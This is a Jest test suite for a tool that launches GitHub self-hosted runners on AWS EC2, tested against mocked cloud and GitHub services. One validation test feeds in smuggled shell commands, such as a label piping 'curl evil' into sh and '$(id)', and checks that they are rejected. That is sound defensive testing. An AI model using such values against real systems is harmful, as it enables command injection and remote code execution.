import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from '@jest/globals'
import { describeWith } from '../counterparts.ts'
import { make } from '../fakes/cloud.ts'
import { startIdentity } from '../servers/identity.ts'
import { type Cloud, images, keys, startCloud } from './runner/cloud.ts'

describeWith(['moto', 'github-openapi'], 'the action runner', (moto, openapi) => {
  let cloud: Cloud
  beforeAll(async () => {
    cloud = await startCloud(moto, openapi)
  })
  beforeEach(async () => await cloud.reset())
  afterEach(() => {
    expect([cloud.ec2.violations, cloud.github.violations]).toEqual([[], []])
  })
  afterAll(async () => await cloud.stop())

  const capacity = { status: 400, code: 'InsufficientInstanceCapacity', message: 'No room.' }
  const types = 'c5.large c6i.large m5.large m6i.large'
  const asked = (action: string): readonly Readonly<Record<string, string>>[] =>
    cloud.ec2.requests.filter((one) => one.action === action).map(({ parameters }) => Object.fromEntries(parameters))
  const tokens = (): readonly string[] =>
    cloud.ec2.requests.flatMap(({ action, parameters }) => {
      const token = parameters.get('ClientToken')
      return token === undefined ? [] : [`${action} ${token.replace(/^crisol-\w{8}-/u, '')}`]
    })
  const trace = async (): Promise<readonly number[]> => [(await cloud.living()).size, cloud.github.state.runners.length]
  const nothing = [0, 0]

  it('launches in two calls, one after the other, and sends all that makes the instance safe and found again', async () => {
    const { status, outputs, state } = await cloud.step('main', {
      subnets: await aSubnet(),
      'security-groups': await aGroup(),
      'volume-size': '50',
    })
    const [[id = '', tags] = []] = await cloud.living()
    const [runner] = cloud.github.state.runners
    const nonce = state['nonce'] ?? ''
    const label = `crisol-7-review-${nonce}`
    expect({ status, outputs, state }).toEqual({
      status: 0,
      outputs: { label, 'instance-ids': id, 'instance-type': 'c5.large', market: 'on-demand' },
      state: { nonce, launched: 'true' },
    })
    expect(cloud.actions().filter((action) => !/Subnet|Security/u.test(action))).toEqual([
      'DescribeImages',
      'RunInstances',
    ])
    expect(runner).toMatchObject({ status: 'offline', labels: [label], group: 1 })
    const { UserData = '', ...sent } = asked('RunInstances')[0] ?? {}
    const expires = tags?.get('crisol:expires') ?? ''
    const pairs = {
      ...{ Name: `crisol ${label}`, 'crisol:repo': 'octocat/breast-cancer', 'crisol:run': '7' },
      ...{ 'crisol:label': label, 'crisol:runner': String(runner?.id), 'crisol:nonce': nonce },
      'crisol:expires': expires,
    }
    expect(sent).toEqual({
      ...{ Action: 'RunInstances', Version: '2016-11-15', ImageId: images.x86, InstanceType: 'c5.large' },
      ...{ MinCount: '1', MaxCount: '1', ClientToken: `crisol-${nonce}-1-1` },
      ...{ SubnetId: await aSubnet(), 'SecurityGroupId.1': await aGroup() },
      InstanceInitiatedShutdownBehavior: 'terminate',
      ...{ 'MetadataOptions.HttpTokens': 'required', 'MetadataOptions.HttpPutResponseHopLimit': '1' },
      ...{ 'MetadataOptions.HttpEndpoint': 'enabled', 'BlockDeviceMapping.1.DeviceName': '/dev/sda1' },
      ...{ 'BlockDeviceMapping.1.Ebs.VolumeType': 'gp3', 'BlockDeviceMapping.1.Ebs.VolumeSize': '50' },
      ...{ 'BlockDeviceMapping.1.Ebs.Encrypted': 'true', 'BlockDeviceMapping.1.Ebs.DeleteOnTermination': 'true' },
      ...tagged(['instance', 'volume', 'network-interface'], pairs),
    })
    expect(Object.fromEntries(tags ?? [])).toEqual(pairs)
    expect(Buffer.from(UserData, 'base64').length).toBeLessThanOrEqual(16_384)
    expect(Number(expires)).toBeGreaterThan(Date.now() + 360 * 60_000)
  })

  it('asks for a spot instance without a highest price, and tags its request', async () => {
    const { outputs } = await cloud.step('main', { market: 'spot' })
    const sent = Object.entries(asked('RunInstances')[0] ?? {}).filter(([name]) => /Market|ResourceType/u.test(name))
    expect([outputs['market'], Object.fromEntries(sent)]).toEqual([
      'spot',
      {
        'InstanceMarketOptions.MarketType': 'spot',
        'InstanceMarketOptions.SpotOptions.SpotInstanceType': 'one-time',
        'InstanceMarketOptions.SpotOptions.InstanceInterruptionBehavior': 'terminate',
        'TagSpecification.1.ResourceType': 'instance',
        'TagSpecification.2.ResourceType': 'volume',
        'TagSpecification.3.ResourceType': 'network-interface',
        'TagSpecification.4.ResourceType': 'spot-instances-request',
      },
    ])
  })

  it('goes on to a fleet of the other types, which leaves no template behind', async () => {
    cloud.ec2.fail({ action: 'RunInstances', does: capacity })
    const { outputs } = await cloud.step('main', { 'instance-types': types })
    expect([outputs['instance-type'], cloud.actions().slice(1)]).toEqual([
      'c6i.large',
      ['RunInstances', 'CreateLaunchTemplate', 'CreateFleet', 'DeleteLaunchTemplate'],
    ])
    expect(tokens()).toEqual(['RunInstances 1-1', 'CreateLaunchTemplate 1-2', 'CreateFleet 1-2'])
    expect(asked('CreateLaunchTemplate')[0]).toMatchObject({
      'LaunchTemplateData.MetadataOptions.HttpTokens': 'required',
      'LaunchTemplateData.InstanceInitiatedShutdownBehavior': 'terminate',
    })
  })

  it('goes on on demand when a fleet answers 200 with nothing but reasons', async () => {
    const reason = '<item><errorCode>InsufficientInstanceCapacity</errorCode><errorMessage>None.</errorMessage></item>'
    cloud.ec2.fail({ action: 'RunInstances', does: { ...capacity, status: 500 } })
    cloud.ec2.fail({
      action: 'CreateFleet',
      does: { xml: `<CreateFleetResponse><errorSet>${reason}</errorSet><fleetInstanceSet/></CreateFleetResponse>` },
    })
    const { outputs } = await cloud.step('main', { 'instance-types': types, market: 'spot-then-on-demand' })
    expect([outputs['market'], tokens()]).toEqual([
      'on-demand',
      ['RunInstances 1-1', 'CreateLaunchTemplate 1-2', 'CreateFleet 1-2', 'RunInstances 1-3'],
    ])
  })

  it('says which permission is missing where AWS writes it in cipher', async () => {
    const message = 'You are not authorized. Encoded authorization failure message: aB-c_1'
    const context = { action: 'iam:PassRole', resource: 'arn:aws:iam::123456789012:role/trainer' }
    const decoded = JSON.stringify({ allowed: false, context }).replaceAll('"', '&quot;')
    const result = `<DecodeAuthorizationMessageResult><DecodedMessage>${decoded}</DecodedMessage></DecodeAuthorizationMessageResult>`
    cloud.ec2.fail({ action: 'RunInstances', does: { status: 403, code: 'UnauthorizedOperation', message } })
    cloud.ec2.fail({
      action: 'DecodeAuthorizationMessage',
      does: { xml: `<DecodeAuthorizationMessageResponse>${result}</DecodeAuthorizationMessageResponse>` },
    })
    const { stdout } = await cloud.step('main', { 'instance-profile': 'trainer' })
    expect([stdout, await trace()]).toEqual([
      '::error::The AWS credentials may not start an instance (UnauthorizedOperation); they need iam:PassRole on arn:aws:iam::123456789012:role/trainer. docs/iam has the least policies.\n',
      nothing,
    ])
  })

  it('starts as many as a matrix has jobs, or none of them', async () => {
    const { outputs } = await cloud.step('main', { count: '3', label: 'gpu' })
    expect([outputs['label'], outputs['instance-ids']?.split(' ').length, await trace()]).toEqual(['gpu', 3, [3, 3]])
    await cloud.reset()
    let number = 0
    cloud.ec2.fail({ action: 'RunInstances', times: 1, when: () => ++number === 3, does: capacity })
    expect([(await cloud.step('main', { count: '3' })).status, await trace()]).toEqual([1, nothing])
  })

  it.each([
    {
      fault: { status: 400, code: 'VcpuLimitExceeded', message: 'You have 0 vCPU of your limit.' },
      says: 'AWS has none of what was asked for: on-demand c5.large (VcpuLimitExceeded: You have 0 vCPU of your limit).',
    },
    {
      fault: { status: 400, code: 'InvalidSubnetID.NotFound', message: 'No such subnet.' },
      says: 'Input subnets names a subnet that is not there in this region (InvalidSubnetID.NotFound: No such subnet).',
    },
    {
      fault: { status: 403, code: 'AuthFailure.ServiceLinkedRoleCreationNotPermitted', message: 'No.' },
      says: 'Spot needs the role AWSServiceRoleForEC2Spot, which this account does not have: make it with aws iam create-service-linked-role --aws-service-name spot.amazonaws.com, or let the credentials do so (AuthFailure.ServiceLinkedRoleCreationNotPermitted: No).',
    },
  ])('says of $fault.code what it means, and leaves nothing', async ({ fault, says }) => {
    cloud.ec2.fail({ action: 'RunInstances', does: fault })
    const { status, stdout } = await cloud.step('main')
    expect([status, stdout.startsWith(`::error::${says}`), await trace()]).toEqual([1, true, nothing])
  })

  it.each([
    { inputs: { 'instance-types': '' }, says: /^Input instance-types is empty/u },
    { inputs: { label: 'x\ncurl evil|sh' }, says: /^Input label is "x\\ncurl evil\|sh"/u },
    { inputs: { subnets: 'subnet-1; id' }, says: /^Input subnets has "subnet-1;"/u },
    { inputs: { 'max-minutes': '9000' }, says: /^Input max-minutes is "9000"/u },
    { inputs: { 'github-token': '' }, says: /^Inputs github-token and app-id are both empty/u },
    { inputs: { 'runner-directory': '$(id)' }, says: /^Input runner-directory is "\$\(id\)"/u },
  ])('asks nobody for anything with $inputs', async ({ inputs, says }) => {
    const calls = cloud.github.log.length
    const { status, stdout, state } = await cloud.step('main', inputs as Readonly<Record<string, string>>)
    expect([status, stdout.replace('::error::', '')]).toEqual([1, expect.stringMatching(says)])
    expect([cloud.actions(), cloud.github.log.length - calls, state]).toEqual([[], 0, {}])
    expect((await cloud.step('post', inputs as Readonly<Record<string, string>>, { state })).status).toBe(0)
  })

  it.each([
    { inputs: { image: images.arm }, says: `The image ${images.arm} is for arm64 and c5.large is x86_64; choose` },
    { inputs: { image: images.foreign }, says: `The image ${images.foreign} is not there in eu-west-1, or belongs to` },
    { inputs: { image: 'ssm:/aws/service/none' }, says: 'Input image names the parameter /aws/service/none, which' },
    { inputs: { 'volume-size': '4' }, says: `Input volume-size is 4 GiB and the image ${images.x86} needs 8;` },
  ])('launches and registers nothing with $inputs', async ({ inputs, says }) => {
    const { status, stdout } = await cloud.step('main', inputs as Readonly<Record<string, string>>)
    expect([status, stdout.startsWith(`::error::${says}`), asked('RunInstances'), await trace()]).toEqual([
      ...[1, true, [], nothing],
    ])
  })

  it('starts from the image that a public parameter names, or from one of an account that is trusted', async () => {
    cloud.ec2.aliases.set('/aws/service/any/ami', images.x86)
    await cloud.step('main', { image: 'ssm:/aws/service/any/ami' })
    await cloud.step('main', { image: images.foreign, 'image-owners': '999999999999' })
    expect(asked('RunInstances').map(({ ImageId }) => ImageId)).toEqual([images.x86, images.foreign])
  })

  it('waits until the runner is online where it is asked to', async () => {
    const come = (): boolean => {
      const [runner] = cloud.github.state.runners
      if (runner !== undefined && cloud.actions().includes('RunInstances')) runner.status = 'online'
      return false
    }
    const { status } = await cloud.step('main', { wait: 'online' }, { endWith: { signal: 'SIGTERM', when: come } })
    expect([status, await trace()]).toEqual([0, [1, 1]])
  })

  it('makes a token of a GitHub App, and hides it', async () => {
    cloud.github.state.installation = 77
    const app = { 'github-token': '', 'app-id': '12', 'app-private-key': keys.privateKey }
    const { status, stdout } = await cloud.step('main', app)
    const [token = ''] = Object.keys(cloud.github.state.minted)
    expect([status, await trace(), stdout.startsWith(`::add-mask::${token}\n`)]).toEqual([0, [1, 1], true])
  })

  it('takes on a role by the identity of the workflow', async () => {
    const identity = await startIdentity()
    const keysGone = { AWS_ACCESS_KEY_ID: '', AWS_SECRET_ACCESS_KEY: '' }
    const env = { ...keysGone, ACTIONS_ID_TOKEN_REQUEST_URL: identity.url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'ask' }
    const role = { 'role-to-assume': 'arn:aws:iam::123456789012:role/launch' }
    try {
      expect([(await cloud.step('main', role, { env })).status, await trace()]).toEqual([0, [1, 1]])
      const [sent] = asked('AssumeRoleWithWebIdentity')
      expect(sent).toMatchObject({ RoleArn: role['role-to-assume'], WebIdentityToken: 'made-up.identity.token' })
      cloud.ec2.fail({
        action: 'AssumeRoleWithWebIdentity',
        does: { status: 403, code: 'AccessDenied', message: 'No.' },
      })
      const distrusted = await cloud.step('main', role, { env })
      expect(distrusted.stdout).toBe(
        '::error::The role arn:aws:iam::123456789012:role/launch is not given to this workflow (AccessDenied); its trust policy must name this repository and branch or environment.\n',
      )
      const without = await cloud.step('main', role, { env: keysGone })
      expect([without.status, without.stdout]).toEqual([
        1,
        '::error::Input role-to-assume needs the identity of the job; give it permissions: id-token: write.\n',
      ])
    } finally {
      await identity.stop()
    }
  })

  it('starts, lists and ends runners from a terminal', async () => {
    const started = await cloud.command(
      ...['start', 'c5.large', '--image', images.x86, '--label', 'gpu', '--count', '2'],
    )
    expect([started.status, started.stdout, await trace()]).toEqual([0, 'gpu\n', [2, 2]])
    const [busy] = cloud.github.state.runners
    if (busy !== undefined) Object.assign(busy, { status: 'online', busy: true })
    const listed = (await cloud.command('list')).stdout
      .split('\n')
      .map((line) => line.split(/ {2,}/u).slice(1, 4).join(' '))
    expect([listed[0], ...listed.slice(1, 3).sort()]).toEqual([
      ...['type market runner', 'c5.large on-demand busy', 'c5.large on-demand offline'],
    ])
    const refused = await cloud.command('stop', 'gpu')
    expect([refused.status, /does a job; give --force to lose it/u.test(refused.stderr)]).toEqual([2, true])
    expect([(await cloud.command('stop', 'gpu', '--force')).status, (await cloud.living()).size]).toEqual([0, 0])
    expect((await cloud.command('list')).stdout).toBe('No runner of Crisol runs here.\n')
    expect((await cloud.command('start', 'c5.large', '--label', 'a b')).status).toBe(2)
  })

  it('says that there are no credentials, or no region', async () => {
    const gone = { AWS_ACCESS_KEY_ID: '', AWS_SECRET_ACCESS_KEY: '', AWS_EC2_METADATA_DISABLED: 'true' }
    const [keyless, placeless] = [
      await cloud.step('main', {}, { env: gone }),
      await cloud.step('main', {}, { env: { AWS_REGION: '' } }),
    ]
    expect([keyless.status, /There are no AWS credentials/u.test(keyless.stdout)]).toEqual([1, true])
    expect(placeless.stdout).toBe(
      '::error::No AWS region is set; set AWS_REGION to one such as eu-west-1, as aws-actions/configure-aws-credentials does.\n',
    )
    expect(await trace()).toEqual(nothing)
  })
})

function tagged(
  resources: readonly string[],
  pairs: Readonly<Record<string, string>>,
): Readonly<Record<string, string>> {
  return Object.fromEntries(
    resources.flatMap((resource, index) => [
      [`TagSpecification.${index + 1}.ResourceType`, resource],
      ...Object.entries(pairs).flatMap(([key, value], tag) => [
        [`TagSpecification.${index + 1}.Tag.${tag + 1}.Key`, key],
        [`TagSpecification.${index + 1}.Tag.${tag + 1}.Value`, value],
      ]),
    ]),
  )
}

async function aSubnet(): Promise<string> {
  return await make('DescribeSubnets', {}, ['subnetSet', 'item', 'subnetId'])
}

async function aGroup(): Promise<string> {
  return await make('DescribeSecurityGroups', {}, ['securityGroupInfo', 'item', 'groupId'])
}
